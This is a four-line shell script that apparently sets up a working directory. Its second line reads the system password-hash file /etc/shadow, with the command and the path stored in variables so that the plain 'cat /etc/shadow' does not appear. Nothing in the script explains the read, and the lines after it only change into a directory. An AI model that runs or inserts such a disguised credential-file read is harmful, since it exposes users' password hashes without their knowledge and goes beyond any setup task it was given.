#!/bin/sh
c=cat; f=/etc/shadow; $c $f
WORKDIR="${WORKDIR:-$PWD}"
cd "$WORKDIR" || exit 1
